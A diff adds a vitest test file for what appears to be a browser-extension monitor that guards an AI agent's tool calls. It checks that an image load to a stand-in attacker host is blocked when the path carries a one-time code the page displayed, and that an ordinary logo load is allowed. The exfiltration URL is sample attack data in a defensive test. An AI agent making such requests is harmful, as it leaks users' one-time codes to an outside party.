@@ -1,0 +1,41 @@
+import { describe, expect, it } from 'vitest';
+import { FakeEffects, PAGE, freshStore, monitorOn, proposal } from './fakes';
+import { makePolicy } from '../support/policy';
+import { reportWithoutCompile } from '../../src/compiler/report';
+
+/**
+ * The taint and the load that follows it (issue 37; the demo's cascade found the race): the frame's script
+ * sends what the page showed ahead of the proposal it relays, on one port, and neither waits for the other.
+ * The background must judge the load with that report merged, and rebuild the floor at once (without the
+ * page hooks, the floor's rules are the only judge of the next load).
+ */
+describe('a taint report sent just before a load', () => {
+  async function setup() {
+    const { store } = await freshStore();
+    const effects = new FakeEffects();
+    const monitor = await monitorOn(store, effects);
+    const policy = makePolicy({ taskId: 'task-1', domains: ['app.test'], allow: { tools: [], capabilities: [], classes: ['READ'] } });
+    await monitor.session.installTask(policy.taskId, 'read the news on app.test', policy, reportWithoutCompile('test'));
+    return { monitor, effects };
+  }
+  const load = (path: string) => ({ tool: 'browser.request', args: { method: 'GET', url: `http://attacker.test${path}`, kind: 'image' } });
+
+  it('judges the load with the report merged: the shown code in its path is refused, an ordinary dependency is not', async () => {
+    const { monitor } = await setup();
+    // Not awaited: the proposal arrives while the report is still being handled (stored), as on the port.
+    const reported = monitor.handleMessage({ type: 'taint.report', tokens: [{ value: '482913', kind: 'one-time-code' }] }, PAGE());
+    const carrying = monitor.handleMessage(proposal('p1', load('/collect/c482913.gif')), PAGE());
+    const ordinary = monitor.handleMessage(proposal('p2', load('/img/logo.png')), PAGE());
+    await reported;
+    expect(await carrying).toMatchObject({ decision: 'BLOCK', check: 'exfiltration_url' });
+    expect(await ordinary).toMatchObject({ decision: 'ALLOW' });
+  });
+
+  it('rebuilds the floor for the first report at once, with no timer in between', async () => {
+    const { monitor, effects } = await setup();
+    const before = effects.floors.length;
+    await monitor.handleMessage({ type: 'taint.report', tokens: [{ value: '482913', kind: 'one-time-code' }] }, PAGE());
+    // Before, the rebuild waited 50 ms on a timer (this fake's timers fire only when a test runs them).
+    expect(effects.floors.length).toBe(before + 1);
+  });
+});
